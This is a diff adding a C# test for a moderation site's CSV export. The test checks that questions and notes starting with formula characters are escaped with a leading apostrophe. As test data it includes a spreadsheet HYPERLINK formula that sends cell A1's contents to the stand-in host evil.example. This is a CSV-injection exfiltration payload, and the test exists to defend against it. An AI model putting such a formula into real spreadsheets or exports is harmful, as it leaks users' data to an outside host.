@@ -75,6 +75,27 @@ public sealed partial class ConversationPagesTests
     }
 
     [Fact]
+    public async Task ExportCsv_WritesQuestionsAndNotesThatAFormulaCouldStartAsText()
+    {
+        var at = ModerationSiteHarness.Now.AddHours(-1);
+        await using var site = await ModerationSiteHarness.StartAsync(
+        [
+            Conversations.Refused("f1", at, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"KFOR\")", "leak") with { Note = "@SUM(A1:A9)" },
+            Conversations.Refused("f2", at.AddMinutes(1), "+1+1", "sum"),
+            Conversations.Refused("f3", at.AddMinutes(2), "-1+1", "sum"),
+        ]);
+        using var client = await site.SignedInClientAsync();
+
+        var csv = await client.GetStringAsync("/export.csv");
+
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"KFOR\"\")\",true,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
+        Assert.Contains(",'+1+1,true,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'-1+1,true,", csv, StringComparison.Ordinal);
+        Assert.DoesNotMatch("(^|,)[=+@-]", csv.Replace("\"", string.Empty, StringComparison.Ordinal));
+    }
+
+    [Fact]
     public async Task ExportJsonl_HoldsTheFilteredEntriesAsLogsListJson()
     {
         await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
